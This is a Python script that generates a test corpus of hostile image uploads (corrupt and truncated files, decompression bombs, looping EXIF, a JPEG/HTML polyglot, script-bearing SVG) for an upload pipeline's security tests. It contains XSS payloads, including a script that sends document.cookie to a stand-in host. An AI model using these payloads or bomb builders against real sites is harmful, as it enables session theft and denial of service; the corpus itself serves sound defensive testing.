"""Build the hostile-upload corpus in this folder: deterministic, re-runnable, writes SUMBER.md too.

    .venv/bin/python tests/data/serang/buat_korpus.py

Every generated file is made from code below (fixed seeds, fixed ZIP dates, hand-written containers), so
running it again gives the same bytes with the same Pillow/zlib versions. The six real broken samples are
copied byte for byte from tests/data/foto/broken/ (their licences are listed in SUMBER.md). Bombs are small
files that *claim* or *inflate to* a huge image; the whole folder stays a few MB.

What the upload pipeline must answer for each file is decided in tests/serang/test_unggahan_berbahaya.py,
not here: this script only says how each file was made.
"""

from __future__ import annotations

import hashlib
import io
import random
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pillow_heif
from PIL import Image, ImageDraw

pillow_heif.register_heif_opener()

KORPUS = Path(__file__).resolve().parent
FOTO = KORPUS.parents[1] / "data" / "foto"
HEIC_SUMBER = FOTO / "heic" / "cheers_1440x960_no_exif.heic"

# The real broken samples of the shared collection (see tests/data/foto/SUMBER.md): name -> licence line.
SALINAN = {
    "Olympus_corrupted.jpg": (
        "`ianare/exif-py` @ 2adb9d14a605: `tests/resources/jpg/corrupted.jpg`",
        "CC BY-SA 4.0 (© the contributors to ianare/exif-py)",
    ),
    "Sony_E5823_truncated_User_Comment_Encoding.jpg": (
        "`drewnoakes/metadata-extractor-images` @ 4beba6404878: `jpg/User Comment Encoding.jpg`",
        "Free use (repo README: “You are free to use these media files however you wish.”)",
    ),
    "beach_sof_height_zero.jpg": (
        "`drewnoakes/metadata-extractor-images` @ 4beba6404878: `jpg/beach.jpg`",
        "Free use (repo README: “You are free to use these media files however you wish.”)",
    ),
    "fuzzed_NegativeArraySize_HeifReader.heif": (
        "`drewnoakes/metadata-extractor-images` @ 4beba6404878: "
        "`heic/NegativeArraySizeException.HeifReader.processBoxes.heif`",
        "Free use (repo README: “You are free to use these media files however you wish.”)",
    ),
    "invalid_app1_xmp_image00971.jpg": (
        "`ianare/exif-py` @ 2adb9d14a605: `tests/resources/jpg/invalid/image00971.jpg`",
        "CC BY-SA 4.0 (© the contributors to ianare/exif-py)",
    ),
    "no_exif.jpg": (
        "`ianare/exif-samples` @ 5332a9cf0220: `jpg/xmp/no_exif.jpg`",
        "CC BY-SA 4.0 (© the contributors to ianare/exif-samples)",
    ),
}


# --------------------------------------------------------------------------- building blocks


def foto(lebar: int = 800, tinggi: int = 600, benih: int = 1, mode: str = "RGB") -> Image.Image:
    """A photo-like picture: a gradient sky and a few hundred random shapes, so JPEGs are not tiny."""
    acak = random.Random(benih)
    img = Image.merge(
        "RGB",
        (
            Image.linear_gradient("L").resize((lebar, tinggi)),
            Image.radial_gradient("L").resize((lebar, tinggi)),
            Image.linear_gradient("L").rotate(90).resize((lebar, tinggi)),
        ),
    )
    gambar = ImageDraw.Draw(img)
    for _ in range(300):
        x, y = acak.randrange(lebar), acak.randrange(tinggi)
        w, h = acak.randrange(4, max(5, lebar // 6)), acak.randrange(4, max(5, tinggi // 6))
        warna = (acak.randrange(256), acak.randrange(256), acak.randrange(256))
        if acak.random() < 0.5:
            gambar.ellipse([x, y, x + w, y + h], fill=warna)
        else:
            gambar.rectangle([x, y, x + w, y + h], outline=warna, width=acak.randrange(1, 6))
    return img if mode == "RGB" else img.convert(mode)


def simpan(img: Image.Image, format_pil: str, **opsi: object) -> bytes:
    keluaran = io.BytesIO()
    img.save(keluaran, format_pil, **opsi)
    return keluaran.getvalue()


def jpeg_dasar(lebar: int = 800, tinggi: int = 600, benih: int = 1) -> bytes:
    return simpan(foto(lebar, tinggi, benih), "JPEG", quality=85)


def segmen(penanda: int, isi: bytes) -> bytes:
    """One JPEG marker segment (the length counts itself, not the marker)."""
    return struct.pack(">BBH", 0xFF, penanda, len(isi) + 2) + isi


def sisip_setelah_soi(jpeg: bytes, *segmen_baru: bytes) -> bytes:
    assert jpeg[:2] == b"\xff\xd8"
    return jpeg[:2] + b"".join(segmen_baru) + jpeg[2:]


def potongan_png(jenis: bytes, isi: bytes, crc: int | None = None) -> bytes:
    """One PNG chunk; `crc` overrides the correct checksum."""
    nilai = zlib.crc32(jenis + isi) if crc is None else crc
    return struct.pack(">I", len(isi)) + jenis + isi + struct.pack(">I", nilai)


def png_mentah(lebar: int, tinggi: int, kedalaman: int, jenis_warna: int, baris: Callable[[], bytes]) -> bytes:
    """A PNG written by hand: IHDR, one IDAT streamed through zlib, IEND (for sizes Pillow should not hold)."""
    kompresor = zlib.compressobj(9)
    idat = bytearray()
    for _ in range(tinggi):
        idat += kompresor.compress(baris())
    idat += kompresor.flush()
    ihdr = struct.pack(">IIBBBBB", lebar, tinggi, kedalaman, jenis_warna, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + potongan_png(b"IHDR", ihdr)
        + potongan_png(b"IDAT", bytes(idat))
        + potongan_png(b"IEND", b"")
    )


def tiff_ifd(endian: str, entri: list[tuple[int, int, int, bytes]], berikut: int = 0) -> bytes:
    """A TIFF IFD: (tag, type, count, 4-byte value/offset field) entries and the next-IFD offset."""
    hasil = struct.pack(endian + "H", len(entri))
    for tag, jenis, jumlah, nilai in entri:
        hasil += struct.pack(endian + "HHI", tag, jenis, jumlah) + nilai.ljust(4, b"\x00")[:4]
    return hasil + struct.pack(endian + "I", berikut)


def app1_exif(tiff: bytes) -> bytes:
    return segmen(0xE1, b"Exif\x00\x00" + tiff)


# --------------------------------------------------------------------------- the files


def kosong() -> bytes:
    return b""


def satu_byte() -> bytes:
    return b"\xff"


def acak() -> bytes:
    return random.Random(20240601).randbytes(4096)


def teks() -> bytes:
    return b"Ini bukan foto, hanya teks biasa.\nDrainase Jl. Merdeka tersumbat.\n" * 20


HTML = (
    b"<!DOCTYPE html><html><head><title>x</title></head><body>"
    b"<script>document.location='https://contoh.invalid/?c='+document.cookie</script>"
    b"<img src=x onerror=alert(1)></body></html>\n"
)


def html() -> bytes:
    return HTML


def poliglot_jpeg_html() -> bytes:
    """A valid JPEG whose COM segment holds a script and whose bytes after EOI are an HTML page."""
    jpeg = jpeg_dasar(640, 480, benih=2)
    komentar = segmen(0xFE, b"<script>alert('poliglot')</script><!--")
    return sisip_setelah_soi(jpeg, komentar) + b"-->" + HTML


SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" viewBox="0 0 800 600">'
    b'<rect width="800" height="600" fill="#2a7"/>'
    b"<script>alert(document.domain)</script>"
    b'<a href="javascript:alert(2)"><text x="10" y="40">klik</text></a></svg>\n'
)


def svg() -> bytes:
    return SVG


def pdf() -> bytes:
    """A minimal valid one-page PDF (cross-reference offsets computed, so readers open it)."""
    objek = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
    ]
    aliran = b"BT /F1 12 Tf 20 100 Td (bukan foto) Tj ET"
    objek.append(b"<< /Length %d >>\nstream\n" % len(aliran) + aliran + b"\nendstream")
    hasil = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    posisi = []
    for i, isi in enumerate(objek, start=1):
        posisi.append(len(hasil))
        hasil += b"%d 0 obj\n" % i + isi + b"\nendobj\n"
    xref = len(hasil)
    hasil += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objek) + 1)
    for p in posisi:
        hasil += b"%010d 00000 n \n" % p
    hasil += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objek) + 1, xref)
    return bytes(hasil)


def zip_dinamai() -> bytes:
    """A ZIP holding a real JPEG and a text file (fixed dates, so the bytes never change)."""
    keluaran = io.BytesIO()
    with zipfile.ZipFile(keluaran, "w", zipfile.ZIP_DEFLATED) as arsip:
        for nama, isi in (("foto.jpg", jpeg_dasar(320, 240, benih=3)), ("baca.txt", b"isi arsip\n")):
            info = zipfile.ZipInfo(nama, date_time=(2024, 6, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            arsip.writestr(info, isi)
    return keluaran.getvalue()


# Other formats are refused by name before any size check: small pictures are enough.
def gif() -> bytes:
    return simpan(foto(320, 240, benih=4).convert("P", palette=Image.Palette.ADAPTIVE), "GIF")


def bmp() -> bytes:
    return simpan(foto(240, 180, benih=5), "BMP")


def tiff() -> bytes:
    return simpan(foto(240, 180, benih=6), "TIFF", compression="tiff_lzw")


def ico() -> bytes:
    return simpan(foto(128, 128, benih=7), "ICO", sizes=[(128, 128)])


def jpeg_terpotong(bagian: float) -> Callable[[], bytes]:
    def buat() -> bytes:
        data = jpeg_dasar(1024, 768, benih=8)
        return data[: int(len(data) * bagian)]

    return buat


def jpeg_progresif_terpotong() -> bytes:
    data = simpan(foto(1024, 768, benih=9), "JPEG", quality=85, progressive=True)
    return data[: len(data) // 2]


def png_dasar() -> bytes:
    return simpan(foto(640, 480, benih=10), "PNG")


def png_terpotong() -> bytes:
    data = png_dasar()
    return data[: len(data) * 6 // 10]


def png_crc_ihdr_salah() -> bytes:
    data = bytearray(png_dasar())
    data[29:33] = b"\xde\xad\xbe\xef"  # IHDR's CRC: 8 signature + 4 length + 4 type + 13 data
    return bytes(data)


def png_crc_idat_salah() -> bytes:
    """IDAT checksums are wrong but the compressed pixels are intact."""
    data = png_dasar()
    hasil, posisi = bytearray(data[:8]), 8
    while posisi < len(data):
        (panjang,) = struct.unpack(">I", data[posisi : posisi + 4])
        jenis = data[posisi + 4 : posisi + 8]
        isi = data[posisi + 8 : posisi + 8 + panjang]
        hasil += potongan_png(jenis, isi, crc=0x12345678 if jenis == b"IDAT" else None)
        posisi += 12 + panjang
    return bytes(hasil)


def jpeg_sof_65535() -> bytes:
    """A small valid JPEG whose frame header (SOF0) then claims 65535 × 65535 pixels."""
    data = bytearray(jpeg_dasar(64, 48, benih=11))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 0xFFFF, 0xFFFF)
    return bytes(data)


def png_108mp() -> bytes:
    """12000 × 9000 (108 megapixels) 1-bit grey, all black: 13.5 MB of pixels in a few KB."""
    baris = b"\x00" * (1 + 12000 // 8)
    return png_mentah(12000, 9000, 1, 0, lambda: baris)


def png_kepala_2g() -> bytes:
    """An IHDR claiming 2147483647 × 2147483647 (the PNG maximum) with a token IDAT."""
    ihdr = struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + potongan_png(b"IHDR", ihdr)
        + potongan_png(b"IDAT", zlib.compress(b"\x00" * 4096))
        + potongan_png(b"IEND", b"")
    )


def png_idat_berlebih() -> bytes:
    """A modest 1000 × 1000 RGB header whose IDAT inflates to 128 MB of zeros (125 × what it needs)."""
    kompresor = zlib.compressobj(9)
    blok = b"\x00" * (1024 * 1024)
    idat = b"".join(kompresor.compress(blok) for _ in range(128)) + kompresor.flush()
    ihdr = struct.pack(">IIBBBBB", 1000, 1000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + potongan_png(b"IHDR", ihdr) + potongan_png(b"IDAT", idat) + potongan_png(b"IEND", b"")


def png_49mp(kedalaman: int, jenis_warna: int, kanal: int, sisip: bytes = b"") -> Callable[[], bytes]:
    """7000 × 7000 (49 MP, just under the default 50 MP limit), all zeros: the biggest legal PNG decode.
    `sisip` goes between IHDR and IDAT (a palette)."""

    def buat() -> bytes:
        baris = b"\x00" * (1 + 7000 * kanal * kedalaman // 8)
        data = png_mentah(7000, 7000, kedalaman, jenis_warna, lambda: baris)
        return data[:33] + sisip + data[33:]

    return buat


def jpeg_progresif_49mp() -> bytes:
    """7000 × 7000 progressive JPEG: libjpeg keeps every coefficient of a progressive file in memory."""
    return simpan(Image.new("RGB", (7000, 7000), (30, 60, 30)), "JPEG", quality=50, progressive=True)


def webp_besar(lebar: int, tinggi: int) -> Callable[[], bytes]:
    def buat() -> bytes:
        return simpan(Image.new("RGB", (lebar, tinggi), (30, 60, 30)), "WEBP", lossless=True)

    return buat


def heic_48mp() -> bytes:
    """8064 × 6048, the size of an iPhone "HEIF Max" 48 MP photo, one flat colour (x265 through pillow-heif)."""
    return simpan(Image.new("RGB", (8064, 6048), (30, 60, 30)), "HEIF", quality=10)


def webp_animasi() -> bytes:
    bingkai = [foto(480, 360, benih=20 + i) for i in range(4)]
    return simpan(bingkai[0], "WEBP", save_all=True, append_images=bingkai[1:], duration=200, loop=0, quality=70)


def webp_lossless() -> bytes:
    return simpan(foto(480, 360, benih=24), "WEBP", lossless=True)


def webp_lossy() -> bytes:
    return simpan(foto(800, 600, benih=25), "WEBP", quality=80)


def webp_terpotong() -> bytes:
    data = webp_lossy()
    return data[: len(data) // 2]


def _kotak_heic() -> list[tuple[bytes, int, int]]:
    data = HEIC_SUMBER.read_bytes()
    kotak, posisi = [], 0
    while posisi < len(data):
        (ukuran,) = struct.unpack(">I", data[posisi : posisi + 4])
        kotak.append((data[posisi + 4 : posisi + 8], posisi, ukuran))
        posisi += ukuran
    return kotak


def heic_terpotong() -> bytes:
    """A real HEIC cut in the middle of its mdat: the header and meta box are whole, so Pillow opens it
    (size 1440 × 960) and only decoding the HEVC data fails."""
    data = HEIC_SUMBER.read_bytes()
    mdat = next(k for k in _kotak_heic() if k[0] == b"mdat")
    return data[: mdat[1] + mdat[2] // 2]


def heic_tanpa_mdat() -> bytes:
    """ftyp + meta of a real HEIC and no media data at all."""
    data = HEIC_SUMBER.read_bytes()
    mdat = next(k for k in _kotak_heic() if k[0] == b"mdat")
    return data[: mdat[1]]


def exif_jumlah_mustahil() -> bytes:
    """A valid JPEG whose EXIF claims absurd counts and offsets far outside the 1 KB block."""
    e = ">"
    ifd0_offset = 8
    entri = [
        (0x010F, 2, 0x7FFFFFFF, struct.pack(">I", 0xFFFFFFF0)),  # Make: 2 GB of ASCII, beyond the file
        (0x0110, 2, 0xFFFFFFFF, struct.pack(">I", 0x7FFFFFFF)),  # Model
        (0x011A, 5, 0x7FFFFFFF, struct.pack(">I", 0x10)),  # XResolution: 2^31 rationals
        (0x0112, 3, 0x7FFFFFFF, struct.pack(">I", 0x20)),  # Orientation: 2^31 shorts
        (0x8769, 4, 1, struct.pack(">I", 0xFFFFFF00)),  # Exif IFD pointer beyond the block
        (0x8825, 4, 1, struct.pack(">I", 200)),  # GPS IFD: an entry count of 65535 below
    ]
    tiff = bytearray(b"MM\x00\x2a" + struct.pack(">I", ifd0_offset) + tiff_ifd(e, entri, berikut=0xFFFFFFFF))
    tiff += b"\x00" * (200 - len(tiff))
    tiff += struct.pack(">H", 0xFFFF) + struct.pack(">HHII", 2, 5, 0x7FFFFFFF, 0x7FFFFFF0) * 20
    return sisip_setelah_soi(jpeg_dasar(800, 600, benih=30), app1_exif(bytes(tiff)))


def exif_gps_berputar() -> bytes:
    """EXIF whose IFD pointers loop: IFD0 -> GPS IFD -> (next) IFD0, Exif IFD -> itself, IFD1 -> IFD0."""
    e = "<"
    ifd0, gps, exif = 8, 100, 200
    tiff = bytearray(b"II\x2a\x00" + struct.pack("<I", ifd0))
    tiff += tiff_ifd(
        e,
        [
            (0x010F, 2, 4, b"Cam\x00"),
            (0x8769, 4, 1, struct.pack("<I", exif)),
            (0x8825, 4, 1, struct.pack("<I", gps)),
        ],
        berikut=ifd0,  # IFD1 is IFD0 again
    )
    tiff += b"\x00" * (gps - len(tiff))
    tiff += tiff_ifd(
        e,
        [
            (0x0001, 2, 2, b"N\x00"),
            (0x0002, 5, 3, struct.pack("<I", 300)),
            (0x8825, 4, 1, struct.pack("<I", gps)),  # a GPS IFD that points at itself
        ],
        berikut=ifd0,
    )
    tiff += b"\x00" * (exif - len(tiff))
    tiff += tiff_ifd(e, [(0x8769, 4, 1, struct.pack("<I", exif)), (0x8825, 4, 1, struct.pack("<I", gps))], berikut=exif)
    tiff += b"\x00" * (300 - len(tiff))
    tiff += struct.pack("<6I", 1, 1, 2, 1, 3, 1)
    return sisip_setelah_soi(jpeg_dasar(800, 600, benih=31), app1_exif(bytes(tiff)))


def exif_makernote_sampah() -> bytes:
    """Make "NIKON CORPORATION" and a MakerNote that starts like a Nikon type-2 note, then garbage IFDs."""
    e = ">"
    acak = random.Random(32)
    kepala_nikon = b"Nikon\x00\x02\x10\x00\x00MM\x00\x2a\x00\x00\x00\x08"
    makernote = kepala_nikon + struct.pack(">H", 0xFFFF) + acak.randbytes(4000)
    ifd0, exif = 8, 80
    make = b"NIKON CORPORATION\x00"
    tiff = bytearray(b"MM\x00\x2a" + struct.pack(">I", ifd0))
    offset_make = 60
    tiff += tiff_ifd(
        e,
        [(0x010F, 2, len(make), struct.pack(">I", offset_make)), (0x8769, 4, 1, struct.pack(">I", exif))],
    )
    tiff += b"\x00" * (offset_make - len(tiff)) + make
    tiff += b"\x00" * (exif - len(tiff))
    offset_catatan = exif + 2 + 12 * 2 + 4
    tiff += tiff_ifd(
        e,
        [
            (0x927C, 7, len(makernote), struct.pack(">I", offset_catatan)),
            (0x9286, 7, 0x7FFFFFFF, struct.pack(">I", 0x7FFFFFF0)),  # UserComment beyond the block
        ],
    )
    tiff += makernote
    return sisip_setelah_soi(jpeg_dasar(800, 600, benih=32), app1_exif(bytes(tiff)))


def jpeg_10000_app() -> bytes:
    """A valid JPEG with 10 000 empty APPn segments before the image."""
    kosong_app = b"".join(segmen(0xE0 + (i % 16), b"") for i in range(10_000))
    return sisip_setelah_soi(jpeg_dasar(800, 600, benih=33), kosong_app)


def png_teks_raksasa() -> bytes:
    """A tEXt chunk whose length field claims 2 GB (only 64 KB follow) before the pixels."""
    data = png_dasar()
    ihdr_akhir = 8 + 25
    teks_chunk = struct.pack(">I", 0x7FFFFFF0) + b"tEXt" + b"Comment\x00" + b"A" * 65536
    return data[:ihdr_akhir] + teks_chunk + data[ihdr_akhir:]


def png_ztxt_bom() -> bytes:
    """A zTXt chunk that inflates to 64 MB of text (a zip bomb in metadata) before valid pixels."""
    data = png_dasar()
    kompresor = zlib.compressobj(9)
    blok = b"A" * (1024 * 1024)
    isi = b"".join(kompresor.compress(blok) for _ in range(64)) + kompresor.flush()
    ihdr_akhir = 8 + 25
    return data[:ihdr_akhir] + potongan_png(b"zTXt", b"Comment\x00\x00" + isi) + data[ihdr_akhir:]


def piksel_1x1() -> bytes:
    return simpan(Image.new("RGB", (1, 1), (200, 30, 30)), "PNG")


def piksel_10x10() -> bytes:
    return simpan(foto(10, 10, benih=34), "JPEG", quality=90)


def png_16bit() -> bytes:
    """16-bit grey (mode I;16), full range, as from scanners and some editors."""
    abu = foto(640, 480, benih=35).convert("L")
    return simpan(abu.convert("I").point(lambda v: v * 257).convert("I;16"), "PNG")


def jpeg_cmyk() -> bytes:
    return simpan(foto(640, 480, benih=36).convert("CMYK"), "JPEG", quality=85)


def jpeg_abu() -> bytes:
    return simpan(foto(640, 480, benih=37).convert("L"), "JPEG", quality=85)


def eicar_mirip() -> bytes:
    # Deliberately NOT the real EICAR signature (a virus scanner on a developer's machine would quarantine
    # the checkout): the same shape, with "EICAR" changed, so it is only "text that looks like malware".
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$MUSRENBANG-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*\r\n"


# name -> (builder, how it was made)
BERKAS: dict[str, tuple[Callable[[], bytes], str]] = {
    "kosong.jpg": (kosong, "0 bytes"),
    "satu_byte.jpg": (satu_byte, "one byte 0xFF"),
    "acak.jpg": (acak, "4096 random bytes (random.Random(20240601))"),
    "teks.jpg": (teks, "plain UTF-8 text"),
    "html.jpg": (html, "an HTML page with a cookie-stealing <script> and an onerror handler"),
    "poliglot_jpeg_html.jpg": (
        poliglot_jpeg_html,
        "valid 640×480 JPEG with `<script>` in a COM segment and an HTML page after EOI",
    ),
    "svg_skrip.svg": (svg, "SVG with `<script>` and a javascript: link"),
    "svg_skrip.jpg": (svg, "the same SVG renamed .jpg"),
    "pdf_dinamai.jpg": (pdf, "a minimal valid one-page PDF 1.4 written by hand, renamed .jpg"),
    "zip_dinamai.jpg": (zip_dinamai, "a ZIP (zipfile, fixed dates) with a JPEG and a text file, renamed .jpg"),
    "gambar.gif": (gif, "real 400×300 GIF (palette)"),
    "gambar.bmp": (bmp, "real 400×300 BMP"),
    "gambar.tiff": (tiff, "real 400×300 LZW TIFF"),
    "tiff_dinamai.jpg": (tiff, "the same TIFF renamed .jpg"),
    "gambar.ico": (ico, "real 256×256 ICO"),
    "jpeg_terpotong_10.jpg": (jpeg_terpotong(0.1), "1024×768 JPEG cut after 10 % of its bytes"),
    "jpeg_terpotong_50.jpg": (jpeg_terpotong(0.5), "the same JPEG cut at 50 %"),
    "jpeg_terpotong_90.jpg": (jpeg_terpotong(0.9), "the same JPEG cut at 90 %"),
    "jpeg_progresif_terpotong.jpg": (jpeg_progresif_terpotong, "progressive 1024×768 JPEG cut at 50 %"),
    "png_terpotong.png": (png_terpotong, "640×480 PNG cut at 60 % (inside IDAT)"),
    "png_crc_ihdr_salah.png": (png_crc_ihdr_salah, "640×480 PNG whose IHDR CRC is 0xDEADBEEF"),
    "png_crc_idat_salah.png": (png_crc_idat_salah, "640×480 PNG whose IDAT CRCs are wrong, pixels intact"),
    "jpeg_sof_65535.jpg": (jpeg_sof_65535, "64×48 JPEG whose SOF0 then claims 65535×65535"),
    "png_108mp.png": (png_108mp, "12000×9000 1-bit PNG written by hand (108 MP, all black)"),
    "png_kepala_2g.png": (png_kepala_2g, "IHDR claiming 2147483647×2147483647, token IDAT"),
    "png_idat_berlebih.png": (png_idat_berlebih, "1000×1000 RGB header, IDAT inflating to 128 MB of zeros"),
    "png_49mp.png": (png_49mp(8, 2, 3), "7000×7000 RGB, all black (49 MP: just under the 50 MP limit)"),
    "png_49mp_rgba.png": (png_49mp(8, 6, 4), "7000×7000 RGBA, all zeros (transparent black)"),
    "png_49mp_16bit.png": (png_49mp(16, 0, 1), "7000×7000 16-bit grey, all zeros"),
    "png_49mp_palet_transparan.png": (
        png_49mp(8, 3, 1, potongan_png(b"PLTE", b"\x00\x00\x00\xff\xff\xff") + potongan_png(b"tRNS", b"\x00")),
        "7000×7000 palette PNG whose colour 0 is transparent (tRNS), all colour 0",
    ),
    "jpeg_progresif_49mp.jpg": (jpeg_progresif_49mp, "7000×7000 progressive JPEG of one flat colour"),
    "webp_49mp.webp": (webp_besar(7000, 7000), "7000×7000 lossless WebP of one flat colour (2 KB)"),
    "webp_25mp.webp": (webp_besar(5000, 5000), "5000×5000 lossless WebP of one flat colour (25 MP)"),
    "heic_48mp.heic": (heic_48mp, "8064×6048 HEIC of one flat colour (as big as an iPhone 48 MP “HEIF Max”)"),
    "webp_animasi.webp": (webp_animasi, "animated WebP, 4 frames 480×360"),
    "webp_lossless.webp": (webp_lossless, "lossless WebP 480×360"),
    "webp_lossy.webp": (webp_lossy, "lossy WebP 800×600"),
    "webp_terpotong.webp": (webp_terpotong, "the lossy WebP cut at 50 %"),
    "heic_terpotong.heic": (
        heic_terpotong,
        "`heic/cheers_1440x960_no_exif.heic` of tests/data/foto cut in the middle of its mdat box "
        "(opens as 1440×960, decoding fails); derived from a “free use” file of drewnoakes/metadata-extractor-images",
    ),
    "heic_tanpa_mdat.heic": (
        heic_tanpa_mdat,
        "only the ftyp and meta boxes of the same HEIC (no media data); same origin",
    ),
    "exif_jumlah_mustahil.jpg": (
        exif_jumlah_mustahil,
        "valid 800×600 JPEG; EXIF tags with counts 0x7FFFFFFF/0xFFFFFFFF, offsets beyond the block, "
        "a GPS IFD declaring 65535 entries",
    ),
    "exif_gps_berputar.jpg": (
        exif_gps_berputar,
        "valid 800×600 JPEG; EXIF IFD pointers in a loop (GPS IFD points at itself and back to IFD0)",
    ),
    "exif_makernote_sampah.jpg": (
        exif_makernote_sampah,
        "valid 800×600 JPEG; Make NIKON, a MakerNote with a Nikon header and 4000 random bytes, "
        "UserComment count 0x7FFFFFFF",
    ),
    "jpeg_10000_app.jpg": (jpeg_10000_app, "valid 800×600 JPEG preceded by 10 000 empty APP0–APP15 segments"),
    "png_teks_raksasa.png": (png_teks_raksasa, "640×480 PNG with a tEXt chunk claiming 2 GB (64 KB present)"),
    "png_ztxt_bom.png": (png_ztxt_bom, "640×480 PNG with a zTXt chunk inflating to 64 MB"),
    "piksel_1x1.png": (piksel_1x1, "1×1 PNG"),
    "piksel_10x10.jpg": (piksel_10x10, "10×10 JPEG"),
    "png_16bit.png": (png_16bit, "640×480 16-bit grey PNG (I;16)"),
    "jpeg_cmyk.jpg": (jpeg_cmyk, "640×480 CMYK JPEG"),
    "jpeg_abu.jpg": (jpeg_abu, "640×480 greyscale JPEG"),
    "eicar_mirip.jpg": (eicar_mirip, "EICAR-shaped text that is not the real signature"),
}

KEPALA = """# Hostile-upload corpus: what each file is, how it was made, licences

Used by `tests/serang/test_unggahan_berbahaya.py`, which sends every file here through the real proposal
form and decides what the answer must be. **Generated by `buat_korpus.py`** (this file too): edit the
script, then run `.venv/bin/python tests/data/serang/buat_korpus.py`. The script is deterministic (fixed
seeds, fixed ZIP dates, containers written by hand), so a re-run with the same Pillow/zlib gives the same
bytes; the sha256 column lets a reviewer check.

Generated files are made by this project from scratch (no third-party content), except the two HEIC
files derived from a sample listed in `tests/data/foto/SUMBER.md`. `eicar_mirip.jpg` is *not* the real
EICAR test signature, so no virus scanner quarantines the checkout.

## Real broken samples (copied)

Byte-exact copies of `tests/data/foto/broken/` (= the shared collection's `exif/broken/`), kept here so the
corpus is self-contained.

| file | origin (repo @ commit: path) | bytes | sha256 (prefix) | licence |
|---|---|---:|---|---|
"""

TENGAH = """
CC BY-SA 4.0 files: © the contributors to ianare/exif-py / ianare/exif-samples, licensed under Creative
Commons Attribution-ShareAlike 4.0 International, <https://creativecommons.org/licenses/by-sa/4.0/>.
Unmodified copies. metadata-extractor-images has no formal licence file; its README says “You are free to
use these media files however you wish.”

## Generated files

| file | how it was made | bytes | sha256 (prefix) |
|---|---|---:|---|
"""


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()[:16]


def main() -> None:
    rusak = KORPUS / "broken"
    rusak.mkdir(exist_ok=True)
    baris_salinan = []
    for nama, (asal, lisensi) in SALINAN.items():
        shutil.copyfile(FOTO / "broken" / nama, rusak / nama)
        data = (rusak / nama).read_bytes()
        baris_salinan.append(f"| `broken/{nama}` | {asal} | {len(data)} | `{_sha(data)}` | {lisensi} |")
    baris_buatan = []
    for nama, (buat, keterangan) in BERKAS.items():
        data = buat()
        (KORPUS / nama).write_bytes(data)
        baris_buatan.append(f"| `{nama}` | {keterangan} | {len(data)} | `{_sha(data)}` |")
    # A file that is no longer listed must not linger (the test sends every file in the folder).
    dikenal = {*BERKAS, "SUMBER.md", "buat_korpus.py", "broken"}
    for jalur in KORPUS.iterdir():
        if jalur.name not in dikenal and not jalur.name.startswith("__"):
            jalur.unlink()
    sumber = KEPALA + "\n".join(baris_salinan) + "\n" + TENGAH + "\n".join(baris_buatan) + "\n"
    (KORPUS / "SUMBER.md").write_text(sumber)
    print(f"{len(SALINAN)} copied + {len(BERKAS)} generated files in {KORPUS}")


if __name__ == "__main__":
    main()
